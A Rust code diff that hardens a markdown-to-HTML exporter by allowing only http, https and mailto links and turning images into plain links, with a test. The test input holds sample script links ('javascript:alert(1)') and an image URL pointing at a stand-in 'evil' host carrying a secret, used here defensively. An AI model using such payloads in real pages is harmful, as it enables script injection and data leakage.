@@ -8,7 +8,7 @@
 use std::fmt::Write as _;
 
 use etch_session::LoadedSession;
-use pulldown_cmark::{Event, Options, Parser};
+use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
 use serde_json::Value;
 
 use crate::render::blocks::{Block, Level};
@@ -183,13 +183,47 @@ fn tool_html(call: &ToolView, out: &mut String) {
 fn markdown(text: &str) -> String {
     let options =
         Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
+    // Raw HTML is text; only http, https and mailto links are links;
+    // images become links, so opening the file fetches nothing.
     let events = Parser::new_ext(text, options).map(|event| match event {
         Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
+        Event::Start(
+            Tag::Link {
+                link_type,
+                dest_url,
+                title,
+                id,
+            }
+            | Tag::Image {
+                link_type,
+                dest_url,
+                title,
+                id,
+            },
+        ) => Event::Start(Tag::Link {
+            link_type,
+            dest_url: if safe_url(&dest_url) {
+                dest_url
+            } else {
+                "#".into()
+            },
+            title,
+            id,
+        }),
+        Event::End(TagEnd::Image) => Event::End(TagEnd::Link),
         other => other,
     });
     let mut html = String::new();
     pulldown_cmark::html::push_html(&mut html, events);
     html
+}
+
+/// Whether a link may stay a link in an exported page.
+fn safe_url(url: &str) -> bool {
+    let lower = url.trim().to_ascii_lowercase();
+    ["http://", "https://", "mailto:"]
+        .iter()
+        .any(|scheme| lower.starts_with(scheme))
 }
 
 /// Text safe inside HTML elements and attributes.
@@ -212,6 +246,17 @@ fn escape(text: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// Script links and remote images never become live in the page.
+    #[test]
+    fn unsafe_links_and_images_are_defused() {
+        let html = markdown(
+            "[x](javascript:alert(1)) <javascript:alert(2)> ![i](https://evil/?q=secret) [ok](https://docs.rs)",
+        );
+        assert!(!html.contains("href=\"javascript"), "{html}");
+        assert!(!html.contains("<img"), "{html}");
+        assert!(html.contains("href=\"https://docs.rs\""), "{html}");
+    }
 
     /// Raw HTML from a model is text; markdown is HTML.
     #[test]
